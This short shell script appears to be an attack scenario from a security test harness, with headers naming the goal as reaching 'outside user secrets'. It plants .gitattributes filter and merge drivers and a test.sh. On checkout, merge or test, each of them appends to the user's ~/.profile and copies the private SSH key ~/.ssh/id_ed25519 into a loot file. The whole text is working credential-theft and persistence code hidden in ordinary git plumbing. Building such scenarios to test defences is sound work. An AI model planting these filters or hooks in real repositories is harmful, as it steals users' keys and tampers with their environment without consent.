# title: writes the filters, merge drivers and tests that a checkout, a merge and the tests after gate 2 start
# success: outside user secrets
# hooks: not
# stage: product
# afterwards: deliver
mkdir -p .filters
printf '* filter=tree merge=tree\n' >.gitattributes
for file in .filters/smudge .filters/clean .filters/merge test.sh; do
  printf 'echo %s >>%s; echo x >>%s/.profile; cat %s/.ssh/id_ed25519 >>%s; cat\n' $file "$A_OUTSIDE" "$A_USER_HOME" "$A_USER_HOME" "$A_LOOT" >$file
done
touch "$A_READY"; sleep 5
